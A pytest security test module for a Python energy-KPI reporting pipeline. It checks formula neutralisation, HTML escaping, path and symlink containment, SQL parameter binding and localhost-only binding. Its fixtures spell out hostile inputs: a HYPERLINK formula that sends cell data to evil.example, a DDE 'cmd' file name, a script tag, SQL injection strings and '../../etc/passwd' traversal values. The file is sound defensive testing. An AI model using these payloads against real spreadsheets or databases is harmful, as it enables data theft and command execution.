"""Security basics: nothing the project writes runs as a formula, no path escapes its folder,
every SQL value is a parameter, and nothing listens beyond 127.0.0.1.
"""

from __future__ import annotations

import ast
import csv
import re
from pathlib import Path

import pandas as pd
import pytest
from helpers import write_csv

PROJECT_DIR = Path(__file__).resolve().parents[1]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FY2017 = [p.strftime("%Y-%m") for p in pd.period_range("2017-04", "2018-03", freq="M")]


# --- formulas: every CSV and XLSX a run writes ----------------------------------------------


def is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return not any(c in text for c in "()=@\t\r\n,;|!") and not text.strip().lower().lstrip("+-").startswith(("n", "i"))


def csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def xlsx_cells(path: Path) -> list[tuple[str, object]]:
    from openpyxl import load_workbook

    workbook = load_workbook(path)  # not data_only: a formula would show as one
    return [(cell.data_type, cell.value) for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """A whole run (reports, charts, report pack, snapshot) over deliveries full of formulas."""
    from helpers import Landing

    from envkpi.pipeline import run

    landing = Landing(tmp_path_factory.mktemp("hostile"))
    landing.plants(
        [
            ["P1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "=SUM(1+1)", "JP", "", ""],
            ["+P2", "@plant", "@BU", "JP", "", ""],
            ["-P3", "-2+3", "-BU", "JP", "", ""],
            ["P4", "<script>alert(1)</script>", "BU <b>4</b>", "JP", "", "2017-06"],  # leaves the boundary in June
        ]
    )
    for plant in ("P1", "+P2", "-P3", "P4"):
        landing.energy(f"energy_{plant}.csv", [[plant, m, "electricity", "1000", "kWh"] for m in FY2017])
        landing.production(f"production_{plant}.csv", [[plant, m, "10", "t"] for m in FY2017])
    landing.targets([["energy_intensity", "2017", "5", "=SUM(1+1)"]])
    # Rejected values that start formulas, in a folder whose name starts one.
    landing.energy(
        "=HYPERLINK(1)/energy_bad.csv",
        [
            ["P1", "2017-04", "electricity", '=HYPERLINK("http://evil.example","x")', "kWh"],
            ["@SUM(1)", "2017-05", "electricity", "1", "kWh"],
            ["P1", "2017-06", "electricity", "-2", "kWh"],
            ["+1", "2017-07", "electricity", "1", "kWh"],
            ["P1", "\t=1+1", "electricity", "1", "kWh"],  # trimmed to =1+1
        ],
    )
    # Not contract files, listed by name: names are not trimmed, so a tab can start one.
    write_csv(landing.path / "=cmd|' calc'!A0.csv", ["a"], [["b"]])
    write_csv(landing.path / "\tnotes.csv", ["a"], [["b"]])
    # One KPI of the registry: every kind of output file is written, and charts cost seconds per KPI.
    reference = landing.root / "reference"
    reference.mkdir()
    for path in (PROJECT_DIR / "data" / "reference").glob("*.csv"):  # kpis.csv is replaced below
        (reference / path.name).write_bytes(path.read_bytes())
    registry = pd.read_csv(PROJECT_DIR / "data" / "reference" / "kpis.csv", dtype=str, keep_default_na=False)
    registry[registry.kpi == "energy_intensity"].to_csv(reference / "kpis.csv", index=False)
    landing.settings = landing.settings.with_overrides(reference=reference)
    result = run(landing.settings)
    return landing, result


def test_every_csv_a_run_writes_starts_no_formula(hostile_run):
    landing, _ = hostile_run
    written = [p for p in landing.settings.reports.rglob("*.csv") if "data_docs" not in p.parts]
    assert {"kpi_results.csv", "rejections.csv", "boundary_warnings.csv", "results_FY2017.csv"} <= {
        p.name for p in written
    }
    for path in written:
        for cell in csv_cells(path):
            assert not cell.startswith(FORMULA_STARTS) or is_plain_number(cell), (
                f"{path.name}: {cell!r} starts a formula"
            )
    rejections = landing.rejections()
    assert {'\'=HYPERLINK("http://evil.example","x")', "'@SUM(1)", "'-2", "'+1", "'=1+1"} <= set(rejections.value)
    assert {"'=HYPERLINK(1)/energy_bad.csv", "'=cmd|' calc'!A0.csv", "'\tnotes.csv"} <= set(rejections.file)
    results = pd.read_csv(landing.settings.reports / "kpi_results.csv", dtype=str, keep_default_na=False)
    assert {"'=SUM(1+1)", "'@BU", "'-BU", "'+P2", "'-P3"} <= set(results.scope_id)
    warnings = pd.read_csv(landing.settings.reports / "boundary_warnings.csv", dtype=str, keep_default_na=False)
    assert set(warnings.plant_id) == {"P4"} and len(warnings) == 2 * 9  # energy and production, 2017-07 .. 2018-03


def test_kpi_results_csv_written_by_duckdb_equals_the_pandas_writer(hostile_run, tmp_path):
    """DuckDB writes kpi_results.csv (sql/kpi/kpi_results_export.sql); the general writer
    (export.write_csv of the KPI table) must give the same bytes, hostile plant ids included."""
    from envkpi.reporting.export import write_csv as export_csv
    from envkpi.warehouse.database import connect, kpi_results_frame

    landing, _ = hostile_run
    connection = connect(landing.settings.warehouse, read_only=True)
    try:
        by_pandas = export_csv(kpi_results_frame(connection), tmp_path / "kpi_results.csv")
    finally:
        connection.close()
    assert by_pandas.read_bytes() == (landing.settings.reports / "kpi_results.csv").read_bytes()


def test_every_xlsx_a_run_writes_holds_no_formula(hostile_run):
    landing, _ = hostile_run
    written = list(landing.settings.reports.rglob("*.xlsx"))
    assert written, "the run wrote no XLSX"
    for path in written:
        cells = xlsx_cells(path)
        assert not [value for kind, value in cells if kind == "f"], f"{path.name} holds formulas"
        texts = [value for kind, value in cells if isinstance(value, str)]
        assert not [t for t in texts if t.startswith(FORMULA_STARTS)], f"{path.name}: text starting a formula"
        assert any(t.startswith(("'=", "'+", "'-", "'@")) for t in texts), f"{path.name}: the hostile ids are missing"


def test_html_and_markdown_of_the_pack_escape_delivered_text(hostile_run):
    landing, _ = hostile_run
    for path in landing.settings.reports.rglob("*.html"):
        if "data_docs" not in path.parts:
            assert "<script>" not in path.read_text(encoding="utf-8"), path.name


def test_export_neutralises_each_formula_start():
    from envkpi.reporting.export import neutralise_formula, neutralise_frame

    for start in FORMULA_STARTS:
        assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"
    assert neutralise_formula("plain") == "plain" and neutralise_formula(-5) == -5
    frame = neutralise_frame(pd.DataFrame({"=col": ["=1", "ok"], "n": [-1.5, 2.0]}))
    assert list(frame.columns) == ["'=col", "n"] and frame["'=col"].tolist() == ["'=1", "ok"]
    assert frame["n"].tolist() == [-1.5, 2.0]  # numbers stay numbers


# --- paths: nothing read from outside the landing folder, nothing written outside reports ----


def test_odd_file_names_load_and_never_lead_outside_the_landing_folder(landing, tmp_path):
    outside = tmp_path / "outside"
    secret = write_csv(
        outside / "energy_secret.csv",
        ["plant_id", "period", "energy_type", "quantity", "unit"],
        [["P1", "2017-04", "electricity", "999999", "kWh"]],
    )
    landing.plants([["P1", "Plant One", "BU", "JP", "", ""]])
    landing.energy("energy_工場 1.csv", [["P1", "2017-04", "electricity", "1", "kWh"]])
    landing.energy("sub dir/energy_x..y.csv", [["P1", "2017-05", "electricity", "2", "kWh"]])
    landing.energy("年度 2017/energy_P1 (copy).csv", [["P1", "2017-06", "electricity", "3", "kWh"]])
    landing.energy("..foo/energy_hidden.csv", [["P1", "2017-07", "electricity", "4", "kWh"]])  # a hidden folder
    (landing.path / "energy_link.csv").symlink_to(secret)  # a link to a file outside
    (landing.path / "linked_dir").symlink_to(outside, target_is_directory=True)  # a link to a folder outside
    (landing.path / "energy_up.csv").symlink_to(Path("..") / "outside" / "energy_secret.csv")  # a relative one
    result = landing.run()

    assert sorted(result.ingest.loaded) == sorted(
        ["plants.csv", "energy_工場 1.csv", "sub dir/energy_x..y.csv", "年度 2017/energy_P1 (copy).csv"]
    )
    # Links to a file or to a folder are reported and never followed.
    assert sorted(result.ingest.ignored) == ["energy_link.csv", "energy_up.csv", "linked_dir"]
    quantities = landing.query("select quantity from raw_energy order by quantity").quantity.tolist()
    assert quantities == ["1", "2", "3"]  # not the hidden folder's, never the secret outside
    files = landing.query("select source_file from delivery order by source_file").source_file.tolist()
    assert all(not f.startswith(("/", "..")) and "/../" not in f for f in files), files
    rejections = landing.rejections()
    assert set(rejections.file) == {"energy_link.csv", "energy_up.csv", "linked_dir"}
    assert (rejections.reason.str.contains("link")).all()


def test_report_file_names_never_leave_the_reports_folder(tmp_path):
    """Chart and pack names come from the KPI registry and the fiscal year, never a path."""
    from envkpi.reporting import charts

    for hostile in ("../../etc/passwd", "/abs/path", "a/../../b", "..", "energy intensity", "工場"):
        stem = charts._safe_stem(hostile)
        target = (tmp_path / "charts" / f"trend_{stem}_FY2017.png").resolve()
        assert target.parent == (tmp_path / "charts").resolve() and "/" not in stem and stem not in ("", ".", "..")


def test_a_kpi_named_like_a_path_is_drawn_inside_the_charts_folder(tmp_path):
    from envkpi.reporting import charts

    registry = pd.read_csv(PROJECT_DIR / "data" / "reference" / "kpis.csv", dtype=str, keep_default_na=False)
    registry = registry[registry.kpi == "energy_intensity"].assign(kpi="../../escape")
    results = pd.DataFrame(
        [
            {
                "scope_level": "group",
                "scope_id": "group",
                "kpi": "../../escape",
                "fiscal_year": 2017,
                "numerator": 10.0,
                "numerator_unit": "GJ",
                "denominator": 5.0,
                "denominator_unit": "t",
                "value": 2.0,
                "base_year": 2005,
                "base_value": 2.5,
                "change_vs_base_pct": 20.0,
                "target_pct": 10.0,
                "achievement_ratio": 2.0,
                "rating": "achieved",
                "completeness_pct": 100.0,
            }
        ]
    )
    out = tmp_path / "reports" / "charts"
    written = charts.write_charts(results, out, 2017, charts.ReportDates.for_year(2017, 4, "2018-05-15"), registry)
    assert written and all(p.resolve().parent == out.resolve() for p in written)
    assert all(out.resolve() in p.resolve().parents for p in tmp_path.rglob("*") if p.is_file())


# --- SQL: values are parameters -------------------------------------------------------------

# The only f-strings that put something into SQL text. Each interpolation is an identifier or a
# fragment from a fixed list in the code, never a delivered or user-given value.
IDENTIFIER_ONLY = {
    ("envkpi/ingest/deliveries.py", "table"): "raw_<kind>, kind from contract.KINDS",
    ("envkpi/ingest/deliveries.py", "columns"): "the kind's contract columns (contract.KINDS)",
    ("envkpi/ingest/deliveries.py", "SOURCE_ROW"): "the constant column name source_row",
    ("envkpi/warehouse/reference.py", "table"): "raw_<kind> of a reference kind (_reference_kinds)",
    ("envkpi/warehouse/database.py", "sql_type"): "a type of contract.NUMBER_TYPES (contract.number_columns)",
    ("envkpi/reporting/published.py", "where"): "built by _where from fixed column expressions, values bound",
    ("envkpi/reporting/published.py", "name"): "a parameter name: a key of a fixed filter dict",
    ("envkpi/reporting/published.py", "column"): "a fixed column expression of a filter dict",
    ("envkpi/reporting/published.py", "'and' if where else 'where'"): "a keyword",
    ("envkpi/reporting/published.py", "sql('energy_conservation_report')"): "the text of a shipped SQL file",
    ("envkpi/warehouse/publication.py", "columns"): "kpi_results' contract columns (publication.RESULT_COLUMNS)",
}
SQL_WORDS = re.compile(
    r"\b(select\b[\s\S]*\bfrom|insert\s+into|delete\s+from|update\s+\w+\s+set|create\s+(or\s+replace\s+)?"
    r"(temp\s+)?(table|view|macro)|drop\s+table|attach\b|detach\b|try_cast\(|list_contains\()|\$[a-z_]+",
    re.IGNORECASE,
)


def python_sources() -> list[Path]:
    return sorted([*(PROJECT_DIR / "envkpi").rglob("*.py"), *(PROJECT_DIR / "flows").rglob("*.py")])


def sql_interpolations(path: Path) -> list[tuple[int, str]]:
    """(line, expression) of every value interpolated into SQL text in one module."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            text = "".join(part.value for part in node.values if isinstance(part, ast.Constant))
            if SQL_WORDS.search(text):
                found += [
                    (node.lineno, ast.unparse(part.value))
                    for part in node.values
                    if isinstance(part, ast.FormattedValue)
                ]
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
            if isinstance(node.func.value, ast.Constant) and SQL_WORDS.search(str(node.func.value.value)):
                found.append((node.lineno, f".format({ast.unparse(node)})"))
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod) and isinstance(node.left, ast.Constant):
            if isinstance(node.left.value, str) and SQL_WORDS.search(node.left.value):
                found.append((node.lineno, f"% {ast.unparse(node.right)}"))
    return found


# envkpi/warehouse/schema.py writes the contract's relations from the contract definition alone: every
# interpolation there passes through its _name or _literal guard (tested below), so it is not
# listed expression by expression.
CONTRACT_SQL = "envkpi/warehouse/schema.py"


def test_every_sql_statement_takes_values_as_parameters():
    unexpected = []
    for path in python_sources():
        relative = path.relative_to(PROJECT_DIR).as_posix()
        if relative == CONTRACT_SQL:
            continue
        for line, expression in sql_interpolations(path):
            if (relative, expression.replace('"', "'")) not in IDENTIFIER_ONLY:
                unexpected.append(f"{relative}:{line}: {{{expression}}}")
    assert not unexpected, "values formatted into SQL (bind them as parameters):\n" + "\n".join(unexpected)
    used = {
        (path.relative_to(PROJECT_DIR).as_posix(), e.replace('"', "'"))
        for path in python_sources()
        for _, e in sql_interpolations(path)
    }
    assert set(IDENTIFIER_ONLY) <= used, (
        f"no longer formatted into SQL, drop from the list: {set(IDENTIFIER_ONLY) - used}"
    )


def test_the_identifiers_formatted_into_sql_come_from_fixed_lists():
    from envkpi.contract import KINDS, number_columns
    from envkpi.warehouse.reference import _reference_kinds

    assert all(re.fullmatch(r"[a-z][a-z0-9]*", kind) for kind in KINDS)
    assert set(_reference_kinds()) < set(KINDS)
    assert set(number_columns().values()) <= {"decimal(38, 10)", "decimal(18, 9)", "double"}


def test_the_contract_sql_takes_only_checked_identifiers_and_constants():
    from envkpi.warehouse import schema

    for hostile in ("energy; drop table delivery", "plant_id'", "Energy", "", "a b"):
        with pytest.raises(ValueError):
            schema._name(hostile)
    for hostile in ("x' or '1'='1", "a;b", "chr(0)", "it's"):
        with pytest.raises(ValueError):
            schema._literal(hostile)
    # Every expression the module formats into SQL is one of: a guarded name or literal, a typed
    # column built from those, or a fragment assembled from them (the variables below).
    tree = ast.parse((PROJECT_DIR / CONTRACT_SQL).read_text(encoding="utf-8"))
    allowed_variables = {
        "table",
        "columns",
        "typed",
        "every",
        "raw_monthly",
        "accepted_monthly",
        "kinds",
        "factors",
        "unit",
        "measures",
        "detail",
        "condition",
        "factor",
        "amount",
        "counted",
        "cases",
    }
    for line, expression in sql_interpolations(PROJECT_DIR / CONTRACT_SQL):
        expression = expression.replace('"', "'")
        assert expression.startswith(("_name(", "_literal(")) or expression in allowed_variables, (line, expression)
    assert tree


def test_the_static_check_finds_a_value_formatted_into_sql(tmp_path):
    sample = tmp_path / "sample.py"
    sample.write_text(
        "def f(c, plant):\n    c.execute(f\"select * from raw_energy where plant_id = '{plant}'\")\n"
        '    c.execute("delete from delivery where id = %s" % plant)\n'
        '    c.execute("select * from t where a = {}".format(plant))\n'
    )
    assert [e for _, e in sql_interpolations(sample)][0] == "plant" and len(sql_interpolations(sample)) == 3


def test_published_queries_bind_hostile_filter_values(hostile_run):
    from envkpi.reporting import published

    landing, _ = hostile_run
    frame = published.kpi_results(scope_id=["=SUM(1+1)", "' or 1=1 --"], settings=landing.settings)
    assert set(frame.scope_id) == {"=SUM(1+1)"}
    assert published.kpi_results(scope_id="x'); drop table kpi_results; --", settings=landing.settings).empty


# --- nothing listens beyond this machine ----------------------------------------------------


def project_texts() -> dict[str, str]:
    paths = [
        PROJECT_DIR / "Makefile",
        PROJECT_DIR / "README.md",
        PROJECT_DIR / "pyproject.toml",
        *python_sources(),
        *(PROJECT_DIR / "docs").rglob("*.md"),
        *(PROJECT_DIR / "notebooks").glob("*.py"),
        *(PROJECT_DIR / "tests" / "e2e").glob("*.py"),
        *(PROJECT_DIR / "benchmarks").rglob("*.py"),
    ]
    return {p.relative_to(PROJECT_DIR).as_posix(): p.read_text(encoding="utf-8") for p in paths if p.is_file()}


def test_the_prefect_server_and_everything_else_bind_to_127_0_0_1_only():
    texts = project_texts()
    # Invocations (a command with options, or an argument list), not prose that names the command.
    starts = [
        (name, line)
        for name, text in texts.items()
        for line in text.splitlines()
        if (re.search(r"prefect\S*\s+server\s+start", line) and " --" in line) or '"server", "start"' in line
    ]
    assert any(name == "Makefile" for name, _ in starts), "make server no longer starts the Prefect server"
    for name, line in starts:
        assert re.search(r"--host\W+127\.0\.0\.1", line), (
            f"{name}: the Prefect server is started without --host 127.0.0.1: {line}"
        )
    for name, text in texts.items():
        assert "0.0.0.0" not in text, f"{name} mentions 0.0.0.0"
        for url in re.findall(r"PREFECT_API_URL\s*[=:]\s*\S+", text):
            assert "127.0.0.1" in url or "$" in url.split("//")[0] or "{" in url, f"{name}: {url}"
    assert "PREFECT_API_URL=http://127.0.0.1:" in texts["Makefile"]
